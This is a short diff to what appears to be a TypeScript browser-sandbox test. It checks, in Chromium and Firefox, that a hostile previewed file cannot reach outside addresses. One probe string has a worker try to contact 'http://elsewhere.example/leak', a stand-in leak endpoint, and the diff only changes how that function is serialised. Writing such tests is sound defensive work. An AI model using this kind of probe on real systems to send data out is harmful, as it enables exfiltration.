@@ -21,7 +21,7 @@ const TEXT = Buffer.from("rapat pukul sepuluh");
 
 for (const name of ["chromium", "firefox"] as const) {
   t.test(`a file attacks in ${name}`, async (t) => {
-    const probe = `(${tryFromWorker})("http://elsewhere.example/leak").then((reached) => postMessage(reached));`;
+    const probe = `(${tryFromWorker.toString()})("http://elsewhere.example/leak").then((reached) => postMessage(reached));`;
     const stage = await setPreviewStage(t, name, probe);
 
     await t.test("attack 31: a file that takes over its frame reaches neither the desk nor any address", async (t) => {
